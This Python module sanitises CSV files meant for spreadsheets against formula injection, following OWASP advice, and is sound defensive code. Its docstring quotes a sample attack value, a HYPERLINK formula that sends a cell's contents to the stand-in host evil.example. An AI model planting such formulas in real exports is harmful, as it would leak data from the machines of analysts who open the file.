"""CSV meant to be opened in a spreadsheet, with no cell that runs as a formula (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` (and, in some versions, a tab or carriage return) as a formula; a news headline or a user name
such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would then run on an analyst's machine.
Following OWASP's advice, such text cells get a leading ``'``, which spreadsheets hide and treat as
"this is text". Text that is a plain number (``-0.5``, ``+3``) is left alone: spreadsheets read it as
a number, not a formula. Only CSV written for people goes through here; machine formats (JSON Lines,
Parquet) keep the text exactly.
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "spreadsheet_csv", "spreadsheet_safe", "spreadsheet_safe_frame"]

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def spreadsheet_safe(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _NUMBER.fullmatch(value.strip()):
        return value
    return "'" + value


def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`spreadsheet_safe` applied to every text cell (and column name)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(spreadsheet_safe)
    out.columns = [spreadsheet_safe(c) for c in out.columns]
    return out


def spreadsheet_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (header, no index) whose cells never run as formulas."""
    return spreadsheet_safe_frame(frame).to_csv(index=False)
